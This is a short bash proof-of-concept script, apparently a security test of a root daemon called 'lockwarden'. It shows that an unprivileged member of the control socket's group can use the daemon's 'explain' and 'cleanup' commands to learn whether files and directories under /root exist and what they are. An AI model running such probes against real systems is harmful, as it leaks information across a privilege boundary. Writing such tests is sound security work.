#!/bin/bash
# Attack: a member of the control socket's group (not root) asks `explain` / `cleanup` about
# paths under /root (0700). The root daemon open()s/lstat()s them itself (untracked_why,
# do_cleanup's "unguarded" check) and says whether each exists and what it is.
LW=${LW:-/work/main/build/check/src/lockwarden}
T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T; echo '{}' > $T/lw.json
mkdir -p /root/.lw-secret-dir; touch /root/.lw-secret-file
env -u OPENCLAW_STATE_DIR timeout 20 $LW run --config $T/lw.json --socket $T/sock --events - > $T/events 2>$T/err &
d=$!
for i in $(seq 50); do [ -S $T/sock ] && break; sleep 0.1; done
chgrp nogroup $T/sock   # nobody plays a member of the socket's group
for p in /root/.lw-secret-file /root/.lw-secret-dir /root/nonexistent /root/.cargo; do
  printf '%-26s explain: ' $p
  setpriv --reuid=nobody --regid=nogroup --clear-groups $LW explain --socket $T/sock $p 2>&1 | head -1
  printf '%-26s cleanup: ' $p
  setpriv --reuid=nobody --regid=nogroup --clear-groups $LW cleanup --socket $T/sock $p 2>&1 | tr '\n' ' ' | cut -c1-200; echo
done
kill $d; wait $d; rm -rf $T /root/.lw-secret-dir /root/.lw-secret-file
